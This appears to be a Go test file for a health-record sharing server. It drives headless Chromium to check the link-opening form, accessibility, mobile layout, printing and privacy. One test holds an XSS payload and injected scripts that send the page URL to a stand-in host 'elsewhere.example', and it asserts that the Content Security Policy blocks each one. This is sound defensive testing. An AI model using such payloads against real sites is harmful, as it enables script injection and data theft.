package server

import (
	"bufio"
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"math/big"
	"net"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/carekey/carekey/crypto/lane"
	"github.com/carekey/carekey/ledgerclient"
)

// browser is a headless Chromium, spoken to over a pipe (the DevTools protocol).
type browser struct {
	t       *testing.T
	in      *os.File
	mu      sync.Mutex
	number  int
	answers map[int]chan json.RawMessage
	events  []browserEvent
	session string
	width   int // of the screen, if it is a phone's
	woken   chan struct{}
}

type browserEvent struct {
	Method string          `json:"method"`
	Params json.RawMessage `json:"params"`
}

const browserTime = 2 * time.Minute

// newBrowser starts a browser that trusts one more authority than others do.
func newBrowser(t *testing.T, authority []byte) *browser {
	t.Helper()
	for _, program := range []string{"chromium", "certutil", "pdftotext"} {
		if _, err := exec.LookPath(program); err != nil {
			if os.Getenv("CAREKEY_NO_SKIP") != "" {
				t.Fatal(err)
			}
			t.Skip(err)
		}
	}
	home := t.TempDir()
	trusted, file := filepath.Join(home, ".pki", "nssdb"), filepath.Join(home, "authority.pem")
	if err := errors.Join(os.MkdirAll(trusted, 0o700), os.WriteFile(file, authority, 0o600)); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"-N", "--empty-password"}, {"-A", "-t", "C,,", "-n", "test", "-i", file}} {
		if out, err := exec.Command("certutil", append(args, "-d", "sql:"+trusted)...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
	}
	toRead, in, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	out, toWrite, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--force-prefers-reduced-motion", "--user-data-dir="+filepath.Join(home, "browser"), "--remote-debugging-pipe")
	cmd.Env = append(os.Environ(), "HOME="+home)
	cmd.ExtraFiles = []*os.File{toRead, toWrite}
	// All of its processes end together, and are waited for: what still writes into the folder
	// keeps it from being removed.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Stdout, cmd.Stderr, cmd.WaitDelay = io.Discard, io.Discard, 30*time.Second
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	toRead.Close()
	toWrite.Close()
	b := &browser{t: t, in: in, answers: map[int]chan json.RawMessage{}, woken: make(chan struct{}, 1)}
	t.Cleanup(func() {
		in.Close()
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
	})
	go b.read(bufio.NewReaderSize(out, 1<<20))
	target := b.ask("Target.createTarget", map[string]any{"url": "about:blank"})
	b.session = b.ask("Target.attachToTarget", map[string]any{"targetId": target["targetId"], "flatten": true})["sessionId"].(string)
	for _, domain := range []string{"Page", "Runtime", "Network", "Log", "Accessibility"} {
		b.ask(domain+".enable", nil)
	}
	return b
}

func (b *browser) read(r *bufio.Reader) {
	for {
		raw, err := r.ReadBytes(0)
		if err != nil {
			return
		}
		var m struct {
			ID     int             `json:"id"`
			Result json.RawMessage `json:"result"`
			Error  json.RawMessage `json:"error"`
			browserEvent
		}
		if json.Unmarshal(raw[:len(raw)-1], &m) != nil {
			continue
		}
		b.mu.Lock()
		if m.ID != 0 {
			if m.Error != nil {
				m.Result = json.RawMessage(`{"error":` + string(m.Error) + `}`)
			}
			b.answers[m.ID] <- m.Result
		} else {
			b.events = append(b.events, m.browserEvent)
			select {
			case b.woken <- struct{}{}:
			default:
			}
		}
		b.mu.Unlock()
	}
}

// ask asks the browser something and waits for what it says.
func (b *browser) ask(method string, params map[string]any) map[string]any {
	b.t.Helper()
	b.mu.Lock()
	b.number++
	answer := make(chan json.RawMessage, 1)
	b.answers[b.number] = answer
	asked := map[string]any{"id": b.number, "method": method}
	if params != nil {
		asked["params"] = params
	}
	if b.session != "" {
		asked["sessionId"] = b.session
	}
	raw, err := json.Marshal(asked)
	if err == nil {
		_, err = b.in.Write(append(raw, 0))
	}
	b.mu.Unlock()
	if err != nil {
		b.t.Fatal(err)
	}
	select {
	case raw := <-answer:
		var out map[string]any
		if err := json.Unmarshal(raw, &out); err != nil || out["error"] != nil {
			b.t.Fatalf("%s: %s", method, raw)
		}
		return out
	case <-time.After(browserTime):
		b.t.Fatalf("%s: no answer", method)
	}
	return nil
}

// run runs a script in the page and returns what it gives.
func (b *browser) run(script string) any {
	b.t.Helper()
	out := b.ask("Runtime.evaluate", map[string]any{"expression": script, "awaitPromise": true, "returnByValue": true})
	if what := out["exceptionDetails"]; what != nil {
		b.t.Fatalf("%s: %v", script, what)
	}
	return out["result"].(map[string]any)["value"]
}

// until waits for an event of the page.
func (b *browser) until(what, script string) {
	b.t.Helper()
	found := b.run(`new Promise((ok) => {
		const is = () => { if (` + script + `) { ok(true); return true; } return false; };
		if (!is()) { const o = new MutationObserver(() => { if (is()) o.disconnect(); }); o.observe(document, { subtree: true, childList: true, attributes: true, characterData: true }); }
	})`)
	if found != true {
		b.t.Fatalf("%s did not come", what)
	}
}

// of are the events of one kind so far.
func (b *browser) of(method string) (out []json.RawMessage) {
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, e := range b.events {
		if e.Method == method {
			out = append(out, e.Params)
		}
	}
	return out
}

// visit goes to an address and waits until it is there.
func (b *browser) visit(address string) {
	b.t.Helper()
	b.loads("Page.navigate", map[string]any{"url": address})
}

// loads asks the browser something and waits until a page is there.
func (b *browser) loads(method string, params map[string]any) {
	b.t.Helper()
	seen := len(b.of("Page.loadEventFired"))
	b.ask(method, params)
	end := time.After(browserTime)
	for len(b.of("Page.loadEventFired")) == seen {
		select {
		case <-b.woken:
		case <-end:
			b.t.Fatal("the page does not load")
		}
	}
}

// waits until there is an event of one kind with a text in it.
func (b *browser) waits(method, with string) {
	b.t.Helper()
	end := time.After(browserTime)
	for !slices.ContainsFunc(b.of(method), func(e json.RawMessage) bool { return strings.Contains(string(e), with) }) {
		select {
		case <-b.woken:
		case <-end:
			b.t.Fatalf("%s with %s did not come", method, with)
		}
	}
}

// named is what a screen reader has of one thing on the page.
type named struct {
	role, name string
	level      float64
	required   bool
}

// tree is what a screen reader has of the page, in its order.
func (b *browser) tree() (all []named) {
	b.t.Helper()
	for _, one := range b.ask("Accessibility.getFullAXTree", nil)["nodes"].([]any) {
		n := one.(map[string]any)
		if n["ignored"] == true {
			continue
		}
		text := func(of any) string {
			m, _ := of.(map[string]any)
			s, _ := m["value"].(string)
			return s
		}
		is := named{role: text(n["role"]), name: text(n["name"])}
		properties, _ := n["properties"].([]any)
		for _, one := range properties {
			p := one.(map[string]any)
			switch value := p["value"].(map[string]any)["value"]; p["name"] {
			case "level":
				is.level, _ = value.(float64)
			case "required":
				is.required = value == true
			}
		}
		all = append(all, is)
	}
	return all
}

// readable checks what a screen reader has: what can be used has a name, headings lead from
// one order to the next, and so many there are of each role.
func (b *browser) readable(what string, least map[string]int) []named {
	b.t.Helper()
	tree, roles, level := b.tree(), map[string]int{}, 0.0
	for _, n := range tree {
		if slices.Contains([]string{"heading", "button", "link", "textbox"}, n.role) && n.name == "" {
			b.t.Errorf("%s: a %s has no name", what, n.role)
		}
		if n.role == "heading" {
			if n.level > level+1 {
				b.t.Errorf("%s: %q is of order %v, behind one of %v", what, n.name, n.level, level)
			}
			level = n.level
		}
		roles[n.role]++
	}
	for role, n := range least {
		if roles[role] < n {
			b.t.Errorf("%s: %d of %s in %v", what, roles[role], role, roles)
		}
	}
	return tree
}

// browsing is a node that a browser trusts, and the browser.
type browsing struct {
	*world
	b    *browser
	site string
}

func newBrowsing(t *testing.T) *browsing {
	cert, authority := testCertificate(t)
	b := newBrowser(t, authority)
	w := newWorld(t, takesLinks(nil))
	secure := httptest.NewUnstartedServer(w.server)
	secure.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	secure.StartTLS()
	t.Cleanup(secure.Close)
	w.server.opt.Links.URL = secure.URL
	return &browsing{w, b, secure.URL}
}

// page is where a browser opens a link.
func (w *browsing) page(l *linked, more map[string]any) string {
	return w.site + "/view#" + l.text(w.site, more)
}

// asked is what the browser asked for so far.
func (w *browsing) asked() (out []string) {
	w.t.Helper()
	for _, raw := range w.b.of("Network.requestWillBeSent") {
		var e struct {
			Request struct {
				URL, Method string
				Headers     map[string]string
			}
		}
		w.must(json.Unmarshal(raw, &e))
		if e.Request.Headers["Referer"] != "" || e.Request.Headers["Cookie"] != "" {
			w.t.Errorf("%s is told more than it asks for: %v", e.Request.URL, e.Request.Headers)
		}
		out = append(out, e.Request.Method+" "+strings.TrimPrefix(e.Request.URL, w.site))
	}
	return out
}

// send fills in the form, as far as it is there, and sends it.
func (w *browsing) send(by, why, passcode string) {
	w.t.Helper()
	for id, text := range map[string]string{"recipient": by, "reason": why, "passcode": passcode} {
		w.b.run(fmt.Sprintf(`document.getElementById(%q).value = %q`, id, text))
	}
	w.b.run(`document.getElementById("open").click()`)
}

// problem waits for what the page says that is wrong.
func (w *browsing) problem(want string) {
	w.t.Helper()
	w.b.until("a problem", `!document.getElementById("problem").hidden && document.getElementById("busy").textContent === ""`)
	if got := w.b.run(`document.getElementById("problem").textContent`); got != want {
		w.t.Errorf("%v\nnot %s", got, want)
	}
}

// shows waits for the view and checks that it has texts.
func (w *browsing) shows(wants ...string) {
	w.t.Helper()
	w.b.until("the view", `!document.getElementById("result").hidden`)
	text, _ := w.b.run(`document.getElementById("view").innerText`).(string)
	for _, want := range wants {
		if !strings.Contains(strings.Join(strings.Fields(text), " "), want) {
			w.t.Errorf("%q is not in the view:\n%s", want, text)
		}
	}
}

// phone makes the screen one of a phone, so many pixels wide.
func (b *browser) phone(width int) {
	b.t.Helper()
	b.ask("Emulation.setDeviceMetricsOverride", map[string]any{"width": width, "height": 740, "deviceScaleFactor": 2, "mobile": true})
	b.width = width
}

// looks takes a picture of the whole page on a phone and looks at it: it is as wide as the
// screen, nothing runs to its edge or is cut off, and wherever the page has a text there is
// something to be seen.
func (w *browsing) looks(what string) {
	w.t.Helper()
	// A phone whose page is too wide shows it smaller: then both are more than the screen.
	if wide := w.b.run(`[document.documentElement.scrollWidth, innerWidth].join()`); wide != fmt.Sprintf("%d,%[1]d", w.b.width) {
		w.t.Errorf("%s and what is shown of it are %v wide, on a screen of %d", what, wide, w.b.width)
	}
	if cut, _ := w.b.run(`[...document.body.querySelectorAll("*")].filter((e) => e.checkVisibility() && e.clientWidth > 0 && e.scrollWidth > e.clientWidth).map((e) => e.outerHTML).join("\n")`).(string); cut != "" {
		w.t.Errorf("%s is cut off: %s", what, cut)
	}
	shot := w.b.shot(what)
	size := shot.Bounds()
	seen := func(in image.Rectangle) (dark, all int) {
		for y := in.Min.Y; y < in.Max.Y; y++ {
			for x := in.Min.X; x < in.Max.X; x++ {
				if color.GrayModel.Convert(shot.At(x, y)).(color.Gray).Y < 128 {
					dark++
				}
			}
		}
		return dark, in.Dx() * in.Dy()
	}
	if size.Dx() != 2*w.b.width {
		w.t.Errorf("the picture of %s is %d wide", what, size.Dx())
	}
	const edge = 20 // of the 32 pixels that the page leaves free
	for _, side := range []image.Rectangle{image.Rect(0, 0, edge, size.Dy()), image.Rect(size.Dx()-edge, 0, size.Dx(), size.Dy())} {
		if dark, _ := seen(side); dark > 0 {
			w.t.Errorf("%s runs into %v: %d dark", what, side, dark)
		}
	}
	texts, _ := w.b.run(`(() => {
		const out = [], all = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), range = document.createRange();
		while (all.nextNode()) {
			if (!all.currentNode.data.trim() || !all.currentNode.parentElement.checkVisibility()) { continue; }
			range.selectNodeContents(all.currentNode);
			for (const r of range.getClientRects()) {
				if (r.width >= 1) { out.push([all.currentNode.data, r.left, r.top + scrollY, r.right, r.bottom + scrollY]); }
			}
		}
		return out;
	})()`).([]any)
	for _, one := range texts {
		at := one.([]any)
		px := func(i int) int { return int(2 * at[i].(float64)) }
		in := image.Rect(px(1), px(2), px(3), px(4))
		if dark, all := seen(in); !in.In(size) || min(dark, all-dark) < all/50 { // a full stop is more
			w.t.Errorf("%q of %s is not to be seen: at %v of %v, %d of %d dark", at[0], what, in, size, dark, all)
		}
	}
	if len(texts) < 10 {
		w.t.Errorf("%s has %d texts", what, len(texts))
	}
}

// prints checks what is on the paper: the heading, and all that the view shows, its texts
// among it; and neither the form nor what is pressed.
func (w *browsing) prints(texts ...string) {
	w.t.Helper()
	tight := func(s string) string { return strings.Join(strings.Fields(s), "") } // lines and pages end elsewhere on paper
	pdf, err := base64.StdEncoding.DecodeString(w.b.ask("Page.printToPDF", nil)["data"].(string))
	w.must(err)
	read := exec.Command("pdftotext", "-", "-")
	read.Stdin = bytes.NewReader(pdf)
	paper, err := read.Output()
	w.must(err)
	view, _ := w.b.run(`document.getElementById("heading").innerText + "\n" + document.getElementById("view").innerText`).(string)
	for _, want := range append(strings.Split(view, "\n"), texts...) {
		if !strings.Contains(tight(string(paper)), tight(want)) {
			w.t.Errorf("%q is not printed:\n%s", want, paper)
		}
	}
	// Texts of the page, whether they are hidden now or not.
	other, _ := w.b.run(`[...document.querySelectorAll("form p, label, button, .screen, footer, #problem")].map((e) => e.textContent.trim()).join("\n")`).(string)
	for _, no := range strings.Split(other, "\n") {
		if no := tight(no); no != "" && strings.Contains(tight(string(paper)), no) {
			w.t.Errorf("%q is printed:\n%s", no, paper)
		}
	}
}

// quiet checks that nothing was kept, and that the browser had nothing to say.
func (w *browsing) quiet(but ...string) {
	w.t.Helper()
	if kept := w.b.run(`[localStorage.length, sessionStorage.length, document.cookie, history.length > 2].join()`); kept != "0,0,,false" {
		w.t.Errorf("kept: %v", kept)
	}
	for _, raw := range append(w.b.of("Log.entryAdded"), w.b.of("Runtime.exceptionThrown")...) {
		s := string(raw)
		if !strings.Contains(s, "favicon") && !strings.Contains(s, `"level":"verbose"`) && !slices.ContainsFunc(but, func(b string) bool { return strings.Contains(s, b) }) {
			w.t.Errorf("the browser says: %s", s)
		}
	}
}

// TestBrowser opens a link as anybody would: in a browser, under the page's own policy, at
// a server for which an authority vouches. Nothing is sent before the form is, nothing to
// anybody else, nothing is kept; what is shown can be used by who does not see it and on a
// phone, and is printed.
func TestBrowser(t *testing.T) {
	w := newBrowsing(t)
	b := w.b
	file, err := os.ReadFile("../../../testdata/fhir/maria-example.json")
	w.must(err)
	l := w.link(withPasscode("right", 5))
	w.fill(l, file)
	w.keep(l)

	b.phone(360)
	b.visit(w.page(l, map[string]any{"flag": "P", "exp": w.clock.now().Add(time.Hour).Unix(), "label": "For\u202e you"}))
	if b.run(`document.getElementById("form").hidden`) != false || b.run(`document.getElementById("label").textContent`) != "For\ufffd you" {
		t.Fatalf("no form: %v", b.run(`document.body.innerText`))
	}
	w.looks("form")
	form := b.readable("the form", map[string]int{"main": 1, "banner": 1, "contentinfo": 1, "heading": 1})
	for _, want := range []named{{"heading", "Health data, shared by link", 1, false}, {"textbox", "Your name and where you work", 0, true}, {"textbox", "Why you open this", 0, true},
		{"textbox", "Passcode, which you got apart from the link", 0, true}, {"button", "Open", 0, false}} {
		if !slices.Contains(form, want) {
			t.Errorf("the form has no %+v in %+v", want, form)
		}
	}
	says, _ := b.run(`document.getElementById("form").innerText`).(string)
	for _, want := range []string{"Nothing is sent before you press Open.", "Whoever shared this sees what you write here"} {
		if !strings.Contains(says, want) {
			t.Errorf("the form does not say: %s", want)
		}
	}
	if got := w.asked(); !slices.Equal(got, []string{"GET /view"}) {
		t.Errorf("before the form was sent: %q", got)
	}
	w.send("Dr A, City", "", "right")
	if got := b.run(`document.getElementById("reason").matches(":invalid")`); got != true {
		t.Error("who says no reason is not asked for it")
	}
	w.send(" ", "a fall", "right")
	w.problem("Say who you are and why you open this.")
	if a := w.became(l); len(a.Events) != 0 || len(w.asked()) != 1 {
		t.Errorf("before the form was sent: %+v, %q", a.Events, w.asked())
	}
	w.send("Dr A, City", "a fall", "wrong")
	w.problem("The passcode is wrong. Tries left: 4. Wrong tries end the link for good.")
	if got := b.run(`location.href`); got != w.site+"/view" {
		t.Errorf("the link stays in the address: %v", got)
	}
	w.send("Dr A, City", "a fall", "right")
	w.shows("Μαρία Παράδειγμα", "Allergies", "Interactions not looked for by this page", "This is what the sources say")
	if at := b.run(`document.activeElement.id`); at != "heading" {
		t.Errorf("the focus is at %v", at)
	}
	w.looks("view")
	if got := w.asked(); !slices.Equal(got, []string{"GET /view", "POST " + l.path(), "POST " + l.path()}) {
		t.Errorf("asked: %q", got)
	}
	w.quiet("401")
	b.readable("the view", map[string]int{"main": 1, "banner": 1, "contentinfo": 1, "article": 1, "heading": 10, "list": 3, "listitem": 4, "button": 1, "link": 1})

	w.prints("Μαρία Παράδειγμα", "Allergies", "Medicines", "Problems", "This is what the sources say")
	w.says("the node", l, ledgerclient.LinkActive, 2, 4, "wrong-passcode Dr A, City a fall", "opened Dr A, City a fall")
}

// TestBrowserHostile opens a link to what somebody wrote who wants to be more than read: it
// is text, and the page's policy would hold where that failed. What is saved is what was
// shared, byte for byte; each section is in one of four states; and a link that opens nothing
// says so.
func TestBrowserHostile(t *testing.T) {
	lane.OneGoroutine(t)
	w := newBrowsing(t)
	b := w.b
	const hostile = `<img src=x onerror=document.title=1><script>document.title=1</script>`
	wide := strings.Repeat("wide", 50) // one word, longer than a phone is wide
	absent := func(code string) string {
		return `{"coding":[{"system":"http://hl7.org/fhir/uv/ips/CodeSystem/absent-unknown-uv-ips","code":"` + code + `"}]}`
	}
	about := `,"subject":{"reference":"urn:uuid:p"}`
	file := []byte(`{"resourceType":"Bundle","type":"collection","entry":[
{"fullUrl":"urn:uuid:p","resource":{"resourceType":"Patient","name":[{"text":"Ann ` + hostile + `"}],"text":{"status":"generated","div":"` + hostile + `"}}},
{"resource":{"resourceType":"AllergyIntolerance","patient":{"reference":"urn:uuid:p"},"code":` + absent("no-known-allergies") + `}},
{"resource":{"resourceType":"MedicationStatement","status":"active"` + about + `,"medicationCodeableConcept":{"text":"` + hostile + wide + `"}}},
{"resource":{"resourceType":"Condition"` + about + `,"code":` + absent("no-problem-info") + `}}]}
`)
	l := w.link(func(d *ledgerclient.LinkDeposit) { d.Openings = 1 })
	w.fill(l, file)
	w.keep(l)
	direct := map[string]any{"flag": "U", "label": hostile}
	b.phone(390)
	b.visit(w.page(l, direct))
	if got := b.run(`document.getElementById("label").textContent`); got != hostile {
		t.Errorf("the label: %v", got)
	}
	w.send("Dr <b>A</b>", "a & b", "")
	w.shows("Ann "+hostile, hostile+wide+": active")
	states := []string{"Allergies 1 source states none", "Medicines 1 entry listed", "Problems 1 source had no information", "Immunizations no information in what was shared"}
	w.looks("states")
	read := b.readable("the states", nil)
	for _, state := range states {
		if !slices.Contains(read, named{role: "heading", name: state, level: 3}) {
			t.Errorf("no heading %q is read out in %+v", state, read)
		}
	}
	w.prints(hostile, "1 source states none", "1 entry listed", "1 source had no information", "no information in what was shared")
	if got := b.run(`document.title + document.querySelectorAll("img, main script, iframe, object, embed").length`); got != "Health record, shared by link0" {
		t.Errorf("what was shared is more than text: %v", got)
	}
	w.quiet()

	downloads := t.TempDir()
	page := b.session
	b.session = ""
	b.ask("Browser.setDownloadBehavior", map[string]any{"behavior": "allow", "downloadPath": downloads, "eventsEnabled": true})
	b.session = page
	b.run(`document.getElementById("save").click()`)
	b.waits("Browser.downloadProgress", `"completed"`)
	if saved, err := os.ReadFile(filepath.Join(downloads, "record.fhir.json")); err != nil || !bytes.Equal(saved, file) {
		t.Errorf("what is saved is not what was shared: %v", err)
	}

	for _, asked := range w.asked() {
		if asked != "GET /view" && !strings.HasPrefix(asked, "GET "+l.path()+"?recipient=Dr%20%3Cb%3EA%3C%2Fb%3E&reason=a%20%26%20b") && !strings.HasPrefix(asked, "GET blob:"+w.site) {
			t.Errorf("asked: %s", asked)
		}
	}

	// What the policy forbids, to whom got a script into the page all the same.
	violated := func(script string) any {
		return b.run(`new Promise((ok) => { document.addEventListener("securitypolicyviolation", (e) => ok(e.effectiveDirective), { once: true }); ` + script + ` })`)
	}
	for script, directive := range map[string]string{
		`fetch("https://elsewhere.example/?" + location.href).catch(() => {});`:                                                                      "connect-src",
		`new Image().src = "https://elsewhere.example/";`:                                                                                            "img-src",
		`try { document.body.innerHTML = "x"; } catch { /* it is said */ }`:                                                                          "require-trusted-types-for",
		`const f = document.createElement("form"); f.method = "post"; f.action = "https://elsewhere.example/"; document.body.append(f); f.submit();`: "form-action",
		`const s = document.createElement("style"); s.textContent = "p{color:red}"; document.head.append(s);`:                                        "style-src-elem",
		`const s = document.createElement("link"); s.rel = "stylesheet"; s.href = "` + w.site + `/view"; document.head.append(s);`:                   "style-src-elem",
		`const f = document.createElement("iframe"); f.src = "https://elsewhere.example/"; document.body.append(f);`:                                 "frame-src",
		`try { new Worker("` + w.site + `/view"); } catch { /* it is said */ }`:                                                                      "require-trusted-types-for",
	} {
		if got := violated(script); got != directive {
			t.Errorf("%s violates %v, not %s", script, got, directive)
		}
	}
	b.visit("about:blank")
	b.visit(w.page(l, direct))
	w.send("Dr B", "too late", "")
	w.problem("This link opens nothing: it has ended or was ended, all its openings are used, or it never was. Ask who gave it to you for another.")
	w.says("the node", l, ledgerclient.LinkExhausted, 0, 0, "opened Dr <b>A</b> a & b", "refused Dr B too late")
}

// TestBrowserTurns: another link in the same window is opened by itself, with nothing of the
// one before; what was shown does not come back; a browser that is too old says so before
// anything is sent; and what cannot be shown can still be saved.
func TestBrowserTurns(t *testing.T) {
	lane.OneGoroutine(t)
	w := newBrowsing(t)
	b := w.b
	file, err := os.ReadFile("../../../testdata/fhir/maria-example.json")
	w.must(err)
	one, other := w.link(nil), w.link(nil)
	for _, l := range []*linked{one, other} {
		w.fill(l, file)
		w.keep(l)
	}
	direct := map[string]any{"flag": "U"}
	state := func(what, want string) {
		t.Helper()
		if got := b.run(`["form", "result", "problem"].filter((id) => !document.getElementById(id).hidden).join() + " " + document.getElementById("view").childElementCount`); got != want {
			t.Errorf("%s: %v, not %s", what, got, want)
		}
	}
	b.visit(w.page(one, direct))
	state("a link", "form 0")
	w.send("Dr A", "a fall", "")
	w.shows("Μαρία Παράδειγμα")
	b.visit(w.page(other, direct))
	state("another link", "form 0")
	w.send("Dr B", "a fall", "")
	w.shows("Μαρία Παράδειγμα")
	w.says("the other", other, ledgerclient.LinkActive, 2, 0, "opened Dr B a fall")

	b.visit("about:blank")
	history := b.ask("Page.getNavigationHistory", nil)
	entries, at := history["entries"].([]any), int(history["currentIndex"].(float64))
	b.loads("Page.navigateToHistoryEntry", map[string]any{"entryId": entries[at-1].(map[string]any)["id"]})
	state("back", "problem 0")
	if got := b.run(`location.href + document.getElementById("problem").textContent`); got != w.site+"/viewThere is no link here. Open the whole link, as you got it." {
		t.Errorf("back: %v", got)
	}

	with := func(script string) {
		id := b.ask("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": script})["identifier"]
		b.visit("about:blank")
		b.visit(w.page(one, direct))
		b.ask("Page.removeScriptToEvaluateOnNewDocument", map[string]any{"identifier": id})
	}
	with(`delete globalThis.DecompressionStream`)
	state("an old browser", "problem 0")
	if says, _ := b.run(`document.getElementById("problem").textContent`).(string); !strings.Contains(says, "Nothing was sent.") {
		t.Errorf("an old browser: %s", says)
	}
	w.says("the first", one, ledgerclient.LinkActive, 2, 0, "opened Dr A a fall")

	with(`Array.prototype.every = () => { throw new Error("not as it should be"); }`)
	w.send("Dr C", "a fall", "")
	w.shows("This page cannot show what was shared. Save it, and look at it with another program.")
	if got := b.run(`document.getElementById("save").href.slice(0, 5)`); got != "blob:" {
		t.Errorf("it cannot be saved: %v", got)
	}
}

// testCertificate is one for this computer, and the authority that vouches for it.
func testCertificate(t *testing.T) (cert tls.Certificate, authority []byte) {
	t.Helper()
	key := func() *ecdsa.PrivateKey {
		k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		return k
	}
	from, to := time.Now().Add(-time.Hour), time.Now().Add(24*time.Hour)
	by := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "Authority of a test"}, NotBefore: from, NotAfter: to, IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	is := &x509.Certificate{SerialNumber: big.NewInt(2), NotBefore: from, NotAfter: to, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	byKey, isKey := key(), key()
	root, err := x509.CreateCertificate(rand.Reader, by, by, byKey.Public(), byKey)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificate(rand.Reader, is, by, isKey.Public(), byKey)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: isKey}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: root})
}

// shot takes a picture of the whole page, and leaves it where CAREKEY_SHOTS says.
func (b *browser) shot(name string) image.Image {
	b.t.Helper()
	raw, err := base64.StdEncoding.DecodeString(b.ask("Page.captureScreenshot", map[string]any{"captureBeyondViewport": true})["data"].(string))
	if dir := os.Getenv("CAREKEY_SHOTS"); err == nil && dir != "" {
		err = os.WriteFile(filepath.Join(dir, name+".png"), raw, 0o600)
	}
	shot, bad := png.Decode(bytes.NewReader(raw))
	if err := errors.Join(err, bad); err != nil {
		b.t.Fatal(err)
	}
	return shot
}
